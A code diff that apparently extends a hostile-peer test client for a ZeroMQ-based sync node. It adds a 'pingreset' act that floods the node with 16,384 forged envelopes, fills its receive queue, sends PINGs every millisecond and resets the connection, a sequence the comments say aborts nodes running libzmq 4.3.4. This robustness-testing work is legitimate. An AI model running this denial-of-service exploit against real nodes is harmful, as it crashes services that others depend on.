@@ -32,6 +32,11 @@
  *             asking for the whole chain, and never reads an answer; then
  *             drops the connection at once (linger 0). With this act the
  *             socket reads little: RCVHWM 1, a 4 KiB kernel receive buffer
+ *   pingreset makes the node busy (an Events of 16,384 forged envelopes to
+ *             verify), fills its receive queue for this connection with
+ *             Hellos while this socket sends ZMTP PINGs every millisecond,
+ *             then resets the connection (exit with unread data): libzmq
+ *             4.3.4 answers a PING after the reset and aborts the node
  *   conns N   opens N plain TCP connections to ENDPOINT (no ZMTP) and holds
  *             them until the next act; prints how many connected
  *   sleep     waits 500 ms
@@ -528,6 +533,34 @@ static void act_wantflood(int secs)
 	printf("wantflood: sent %zu Wants in %d s without reading\n", sent, secs);
 }
 
+static void act_pingreset(void)
+{
+	uint8_t *env, **many;
+	size_t len, *lens;
+	Wiec__SyncMsg *reply;
+
+	send_hello();
+	if ((reply = recv_msg()) == NULL)
+		die("pingreset: the node did not answer a hello");
+	wiec__sync_msg__free_unpacked(reply, NULL);
+	forged_event(&env, &len);
+	many = calloc(SYNC_EVENTS_MAX, sizeof *many);
+	lens = calloc(SYNC_EVENTS_MAX, sizeof *lens);
+	if (many == NULL || lens == NULL)
+		die("out of memory");
+	for (size_t i = 0; i < SYNC_EVENTS_MAX; i++) {
+		many[i] = env;
+		lens[i] = len;
+	}
+	send_events(many, lens, SYNC_EVENTS_MAX, 0, 0);
+	for (int i = 0; i < 8; i++)
+		send_hello();
+	zmq_poll(NULL, 0, 100);
+	printf("pingreset: node busy, queue full, resetting\n");
+	fflush(stdout);
+	_exit(0);	/* no close: the kernel resets a socket with unread data */
+}
+
 /* Plain TCP connections that never speak: each costs the node a
  * descriptor until it drops them. */
 static int *conns_fd;
@@ -693,10 +726,10 @@ int main(int argc, char **argv)
 	if (argc - a < 3)
 		return usage();
 	for (int i = a + 2; i < argc; i++)
-		if (strcmp(argv[i], "wantflood") == 0) {
+		if (strcmp(argv[i], "wantflood") == 0 || strcmp(argv[i], "pingreset") == 0) {
 			rcvhwm = 1;
 
-			hbivl = 100;
+			hbivl = strcmp(argv[i], "pingreset") == 0 ? 1 : 100;
 		}
 	snprintf(path, sizeof path, "%s/identity.key", argv[a]);
 	if (key_load(&kp, path) != 0)
@@ -733,6 +766,8 @@ int main(int argc, char **argv)
 			act_flood();
 		else if (strcmp(argv[i], "wantflood") == 0 && i + 1 < argc)
 			act_wantflood(atoi(argv[++i]));
+		else if (strcmp(argv[i], "pingreset") == 0)
+			act_pingreset();
 		else if (strcmp(argv[i], "conns") == 0 && i + 1 < argc)
 			act_conns(argv[a + 1], atol(argv[++i]));
 		else if (strcmp(argv[i], "sleep") == 0)
